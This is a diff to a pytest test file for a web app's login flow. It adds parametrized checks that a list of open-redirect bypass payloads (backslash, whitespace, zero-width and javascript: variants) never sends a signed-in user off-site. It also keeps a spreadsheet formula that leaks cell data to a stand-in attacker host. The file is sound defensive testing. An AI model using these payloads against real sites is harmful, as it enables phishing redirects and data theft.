@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import csv
 import io
+from urllib.parse import urljoin, urlsplit
 
 import pytest
 from helpers import cast, csrf_from
@@ -14,9 +15,9 @@ FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 
 def sign_in(client, username, password="correct horse battery", next_=None, **kwargs):
     page = client.get("/login", **kwargs)
-    url = "/login" + (f"?next={next_}" if next_ else "")
+    query = {"next": next_} if next_ is not None else None
     data = {"csrf_token": csrf_from(page.text), "username": username, "password": password}
-    return client.post(url, data=data, **kwargs)
+    return client.post("/login", query_string=query, data=data, **kwargs)
 
 
 # -- 1. formula injection in the exports ---------------------------------------------------
@@ -65,3 +66,39 @@ def test_a_title_that_starts_like_a_formula_is_a_string_cell_in_the_xlsx(
     for sheet in book.worksheets:
         for row in sheet.iter_rows():
             assert all(c.data_type != "f" for c in row)
+
+
+# -- 2. open redirect after sign-in ----------------------------------------------------------
+
+OFF_SITE = [
+    "////evil.example",
+    "//evil.example/",
+    "///evil.example",
+    "https://evil.example/",
+    "http:evil.example",
+    "/\\evil.example",
+    "\\/evil.example",
+    "/\\/evil.example",
+    "/\t/evil.example",
+    "/\n/evil.example",
+    " //evil.example",
+    "/\u3000/evil.example",
+    "/\u200b/evil.example",
+    "javascript:alert(1)",
+    "evil.example",
+    "",
+]
+
+
+@pytest.mark.parametrize("target", OFF_SITE)
+def test_next_never_leads_off_site(client, org, target):
+    answer = sign_in(client, "secretary", next_=target)
+    assert answer.status_code == 303
+    location = answer.headers["Location"]
+    assert urlsplit(urljoin("http://localhost/login", location)).netloc == "localhost"
+    assert location.endswith("/staff/"), (target, location)
+
+
+def test_next_keeps_a_path_on_this_site(client, org):
+    answer = sign_in(client, "secretary", next_="/staff/polls/?year=2026")
+    assert answer.status_code == 303 and answer.headers["Location"] == "/staff/polls/?year=2026"
